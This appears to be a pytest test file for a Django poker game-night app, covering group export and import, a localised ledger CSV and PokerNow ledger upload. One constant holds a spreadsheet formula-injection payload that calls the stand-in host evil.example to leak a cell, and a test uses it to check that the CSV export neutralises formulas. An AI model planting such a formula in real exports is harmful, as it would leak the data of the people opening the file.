"""The pages of issue 17's export and import: the group file, the ledger CSV, the
upload of a group file, and a PokerNow ledger's preview and confirm."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
from typing import Any

import pytest
from crawl_text import (
    ENGLISH_CAPITALISED,
    ENGLISH_WORDS,
    catalogue_phrases,
    fold,
    phrases_in,
    visible_text,
    without,
    words_in,
)
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from helpers.people import Members, make_members
from import_helpers import run_imports_at_once, upload, upload_and_run
from test_pokernow_import import CENTS, LEDGER, NOV_27

from gamenight import services
from gamenight.demo import SeedOptions, seed_demo
from gamenight.models import (
    Entry,
    Group,
    GroupImport,
    Membership,
    Night,
    NightStatus,
    Player,
    Role,
    Season,
)
from gamenight.services.group_export import export_group

GERMAN = {"HTTP_ACCEPT_LANGUAGE": "de"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def client_of(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def seeded(db: None) -> tuple[Group, User]:
    result = seed_demo(SeedOptions(seasons=1, nights=2, games=4, players=4, username="t-host"))
    return result.group, result.host


def _members_of(group: Group, host: User) -> dict[str, User]:
    people = {"host": host}
    for name, role in (("cohost", Role.COHOST), ("viewer", Role.PLAYER)):
        user = User.objects.create(username=f"{name}-{group.pk}")
        services.join_group(token=group.invite_token, user=user)
        if role == Role.COHOST:
            services.set_role(group_id=group.pk, by=host, user=user, role=role)
        people[name] = user
    people["outsider"] = User.objects.create(username=f"outsider-{group.pk}")
    return people


@pytest.mark.parametrize(
    "path",
    ["/groups/{id}/transfer/", "/groups/{id}/export.json", "/groups/{id}/ledger.csv"],
)
def test_only_the_host_reaches_the_export_pages(seeded: tuple[Group, User], path: str) -> None:
    group, host = seeded
    people = _members_of(group, host)
    url = path.format(id=group.pk)
    assert client_of(people["host"]).get(url).status_code == 200
    assert client_of(people["cohost"]).get(url).status_code == 403
    assert client_of(people["viewer"]).get(url).status_code == 403
    assert client_of(people["outsider"]).get(url).status_code == 404
    assert Client().get(url).status_code == 302  # to the login


def test_the_group_page_leads_the_host_to_export_and_import(seeded: tuple[Group, User]) -> None:
    group, host = seeded
    page = client_of(host).get(f"/groups/{group.pk}/", **GERMAN).content.decode()
    assert f'href="/groups/{group.pk}/transfer/"' in page
    people = _members_of(group, host)
    page = client_of(people["cohost"]).get(f"/groups/{group.pk}/").content.decode()
    assert f"/groups/{group.pk}/transfer/" not in page


def test_the_download_is_the_group_file(seeded: tuple[Group, User]) -> None:
    group, host = seeded
    response = client_of(host).get(f"/groups/{group.pk}/export.json")
    assert response["Content-Type"].startswith("application/json")
    assert "attachment;" in response["Content-Disposition"]
    assert ".json" in response["Content-Disposition"]
    data = json.loads(response.content)
    assert data["format"] == "gamenight-group"
    assert (
        len(data["models"]["gamenight.Entry"])
        == Entry.objects.filter(transaction__group=group).count()
    )


def test_the_ledger_csv_has_every_entry_in_the_readers_language_and_no_formulas(
    seeded: tuple[Group, User],
) -> None:
    group, host = seeded
    player = Player.objects.filter(group=group).order_by("pk").first()
    assert player is not None
    Player.objects.filter(pk=player.pk).update(name=FORMULA)
    response = client_of(host).get(f"/groups/{group.pk}/ledger.csv", **GERMAN)
    assert "attachment;" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, body = rows[0], rows[1:]
    assert len(body) == Entry.objects.filter(transaction__group=group).count()
    assert header[:4] == ["Abend", "Buchung", "Vorgang", "Zeit"]
    assert sum(int(r[header.index("Betrag")]) for r in body) == 0
    kinds = {r[header.index("Art")] for r in body}
    assert "Einkauf" in kinds, kinds
    assert "'" + FORMULA in {r[header.index("Spieler")] for r in body}
    assert not any(c.startswith(("=", "+", "@")) for r in body for c in r if c)
    memos = {r[header.index("Grund")] for r in body}
    assert "cashes out" not in memos  # the English memo, read back in German


def test_a_logged_in_user_uploads_a_group_file_and_hosts_the_new_group(
    seeded: tuple[Group, User],
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Any,
) -> None:
    group, _host = seeded
    ran = run_imports_at_once(monkeypatch)
    newcomer = User.objects.create(username="newcomer")
    client = client_of(newcomer)
    assert client.get("/groups/import/", **GERMAN).status_code == 200
    content = json.dumps(export_group(group)).encode()
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(client, content)
    assert response.status_code == 302
    job = GroupImport.objects.get(user=newcomer)
    assert response["Location"] == f"/groups/import/{job.pk}/"
    assert ran == [job.pk]
    copied = Membership.objects.get(user=newcomer).group
    assert copied.pk != group.pk
    page = client.get(response["Location"]).content.decode()
    assert f'href="/groups/{copied.pk}/"' in page
    assert Membership.objects.get(user=newcomer).role == Role.HOST
    # A double tap (the same form key) makes one group.
    with django_capture_on_commit_callbacks(execute=True):
        again = upload(client, content)
    assert again["Location"] == f"/groups/import/{job.pk}/"
    assert Membership.objects.filter(user=newcomer).count() == 1
    assert GroupImport.objects.filter(user=newcomer).count() == 1


@pytest.mark.parametrize(
    ("content", "german"),
    [
        (b"{broken", "kein gültiges JSON"),
        (b'{"format": "gamenight-group", "version": 9, "models": {}}', "Version"),
    ],
)
def test_a_bad_group_file_is_refused_in_german_and_writes_nothing(
    db: None,
    content: bytes,
    german: str,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Any,
) -> None:
    run_imports_at_once(monkeypatch)
    user = User.objects.create(username="uploader")
    groups = Group.objects.count()
    page = upload_and_run(client_of(user), content, django_capture_on_commit_callbacks, **GERMAN)
    assert page.status_code == 200
    assert german in page.content.decode()
    assert "Die Datei wurde nicht importiert" in page.content.decode()
    assert Group.objects.count() == groups


def test_an_empty_file_is_refused_by_the_form_in_german(db: None) -> None:
    user = User.objects.create(username="uploader")
    response = upload(client_of(user), b"", **GERMAN)
    assert response.status_code == 422
    assert "leer" in response.content.decode()
    assert not GroupImport.objects.exists()


def test_a_group_file_whose_ledger_does_not_balance_is_refused(
    seeded: tuple[Group, User],
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Any,
) -> None:
    group, _host = seeded
    data = export_group(group)
    data["models"]["gamenight.Entry"][0]["amount"] += 3
    run_imports_at_once(monkeypatch)
    user = User.objects.create(username="uploader")
    groups = Group.objects.count()
    page = upload_and_run(
        client_of(user), json.dumps(data).encode(), django_capture_on_commit_callbacks, **GERMAN
    )
    assert "gehen nicht auf" in page.content.decode()
    assert Group.objects.count() == groups


@pytest.fixture
def members(db: None) -> Members:
    return make_members()


def _pokernow(
    client: Client, group: Group, text: str, *, scale: str | None = "1", **extra: Any
) -> Any:
    ledger = SimpleUploadedFile("ledger.csv", text.encode(), "text/csv")
    data: dict[str, Any] = {"file": ledger}
    if scale is not None:
        data["scale"] = scale
    return client.post(f"/groups/{group.pk}/pokernow/", data, **extra)


def _posted(preview: Any) -> dict[str, Any]:
    """The preview's form as the page posts it back."""
    form = preview.context["form"]
    data = {name: form[name].value() for name in form.fields}
    return {k: "" if v is None else v for k, v in data.items()}


def test_a_pokernow_ledger_is_previewed_then_booked_once(members: Members) -> None:
    group, host = members.group, members.owner
    client = client_of(host)
    preview = _pokernow(client, group, LEDGER, **GERMAN)
    assert preview.status_code == 200
    page = preview.content.decode()
    assert "anna" in page
    assert "Carla" in page
    assert "-50" in page
    assert "130" in page
    assert not Night.objects.filter(group=group).exists(), "the preview wrote something"
    form = preview.context["form"]
    data = {name: form[name].value() for name in form.fields}
    data = {k: "" if v is None else v for k, v in data.items()}
    response = client.post(f"/groups/{group.pk}/pokernow/confirm/", data)
    assert response.status_code == 302
    night = Night.objects.get(group=group)
    assert night.status == NightStatus.CLOSED
    assert response["Location"] == f"/nights/{night.pk}/"
    # A double tap of the confirm answers as the first did.
    again = client.post(f"/groups/{group.pk}/pokernow/confirm/", data)
    assert again["Location"] == f"/nights/{night.pk}/"
    # The same file once more, another day: refused, in German.
    refused = _pokernow(client, group, LEDGER, **GERMAN)
    assert refused.status_code == 422
    assert "bereits importiert" in refused.content.decode()
    data["key"] = "another-key"
    refused = client.post(f"/groups/{group.pk}/pokernow/confirm/", data, **GERMAN)
    assert refused.status_code == 422
    assert Night.objects.filter(group=group).count() == 1


def test_a_pokernow_ledger_whose_nets_do_not_sum_to_zero_is_refused(members: Members) -> None:
    text = LEDGER.replace(",-80\n", ",-70\n")
    response = _pokernow(client_of(members.owner), members.group, text, **GERMAN)
    assert response.status_code == 422
    assert "nicht null" in response.content.decode()


def test_a_forged_confirm_is_refused_without_a_500(members: Members) -> None:
    client = client_of(members.owner)
    url = f"/groups/{members.group.pk}/pokernow/confirm/"
    for data in (
        {},
        {"key": "x", "text": "garbage"},
        {"key": "x", "text": LEDGER, "player_0": "999999", "player_1": "", "player_2": ""},
        {"key": "x", "text": LEDGER, "player_0": "abc", "season": "nope"},
    ):
        response = client.post(url, data)
        assert response.status_code == 422, data
    assert not Night.objects.filter(group=members.group).exists()
    assert client_of(members.cohost).post(url, {}).status_code == 403
    assert client_of(members.outsider).post(url, {}).status_code == 404


def test_the_pokernow_preview_and_the_booked_night_speak_german(members: Members) -> None:
    """What the language crawl cannot reach (it needs a real PokerNow file)."""
    group, host = members.group, members.owner
    client = client_of(host)
    preview = _pokernow(client, group, LEDGER, **GERMAN)
    names = [group.name, host.username, "anna", "Ben", "Carla", "PokerNow", "English"]
    pages = [preview.content.decode()]
    form = preview.context["form"]
    data = {name: form[name].value() for name in form.fields}
    booked = client.post(
        f"/groups/{group.pk}/pokernow/confirm/",
        {k: "" if v is None else v for k, v in data.items()},
        follow=True,
        **GERMAN,
    )
    pages.append(booked.content.decode())
    for html in pages:
        text = without(fold(visible_text(html)), names)
        assert phrases_in(text, catalogue_phrases("en")) == []
        assert words_in(text, ENGLISH_WORDS + ENGLISH_CAPITALISED) == []
    assert (
        "Ergebnis des Abends bei PokerNow"
        in client.get(f"/groups/{group.pk}/ledger.csv", **GERMAN).content.decode()
    )


# ---------------------------------------------------------------- issue 23


def test_a_german_host_types_the_scale_with_a_comma(members: Members) -> None:
    """0,10 is a tenth in German, not ten; 0.10 (as the file writes) is a tenth too."""
    group, host = members.group, members.owner
    client = client_of(host)
    for typed in ("0,10", "0.10"):
        preview = _pokernow(client, group, CENTS, scale=typed, **GERMAN)
        assert preview.status_code == 200, typed
        html = preview.content.decode()
        booked = html[html.index('id="pokernow-booked"') :]
        assert re.findall(r'class="num net">([-+0-9]+)', booked) == ["-125", "+178", "-53"]


def test_the_upload_asks_for_the_chip_scale(members: Members) -> None:
    response = _pokernow(client_of(members.owner), members.group, NOV_27, scale=None)
    assert response.status_code == 422
    assert "Give the chip scale" in response.content.decode()
    german = _pokernow(client_of(members.owner), members.group, NOV_27, scale=None, **GERMAN)
    assert "Gib den Chip-Maßstab an" in german.content.decode()


def test_the_preview_shows_the_night_in_the_tables_chips_and_books_it(members: Members) -> None:
    """PokerNow's 1,000-chip night at 20 to a chip: what will be booked, before it is."""
    group, host = members.group, members.owner
    client = client_of(host)
    preview = _pokernow(client, group, NOV_27, scale="20")
    assert preview.status_code == 200
    html = preview.content.decode()
    booked = html[html.index('id="pokernow-booked"') :]
    assert re.findall(r'class="num net">([-+0-9]+)', booked) == ["-50", "+69", "-19"]
    assert "(rounded from 68.50)" in booked
    assert not Night.objects.filter(group=group).exists()
    response = client.post(f"/groups/{group.pk}/pokernow/confirm/", _posted(preview))
    assert response.status_code == 302
    night = Night.objects.get(group=group)
    assert night.starting_stack == 50


def test_two_pokernow_ids_are_shown_and_booked_as_one_player(members: Members) -> None:
    group, host = members.group, members.owner
    anna = services.add_player(group_id=group.pk, by=host, name="Anna")
    client = client_of(host)
    text = NOV_27 + "Anna2,p9,2026-11-27T23:30:00.000Z,,200,0,200,0\n"
    preview = _pokernow(client, group, text, scale="20")
    data = _posted(preview)
    assert data["player_0"] == f"p{anna.pk}"
    assert data["player_3"] == "n3"  # a new player "Anna2", as the file names the id
    data["player_3"] = f"p{anna.pk}"
    again = client.post(f"/groups/{group.pk}/pokernow/confirm/", {**data, "again": "1"})
    assert again.status_code == 200
    html = again.content.decode()
    assert 'Anna <span class="muted">(anna, Anna2)</span>' in html
    assert not Night.objects.filter(group=group).exists()
    assert client.post(f"/groups/{group.pk}/pokernow/confirm/", data).status_code == 302
    night = Night.objects.get(group=group)
    assert night.seats.count() == 3
    assert not Player.objects.filter(group=group, name="Anna2").exists()


def test_the_season_offered_is_the_one_the_date_falls_in(members: Members) -> None:
    """Issue 23: the preview took the current season, which started after the night."""
    group, host = members.group, members.owner
    services.create_season(
        group_id=group.pk, by=host, name="Winter", starts_on=datetime.date(2026, 12, 1)
    )
    client = client_of(host)
    preview = _pokernow(client, group, NOV_27, scale="20")
    season = preview.context["form"]["season"]
    assert [label for _value, label in season.field.choices] == [
        "no season",
        "a new season from 11/27/2026",
    ]
    assert season.value() == "new"
    assert client.post(f"/groups/{group.pk}/pokernow/confirm/", _posted(preview)).status_code == 302
    night = Night.objects.get(group=group)
    assert night.season is not None
    assert night.season.name == "2026"
    assert night.season.starts_on <= night.date <= night.season.ends_on
    # A forged choice of the later season is refused, nothing booked.
    other = _pokernow(client, group, NOV_27.replace("p1", "p4"), scale="20")
    data = {**_posted(other), "season": str(Season.objects.get(name="Winter").pk)}
    refused = client.post(f"/groups/{group.pk}/pokernow/confirm/", data)
    assert refused.status_code == 422
    assert Night.objects.filter(group=group).count() == 1
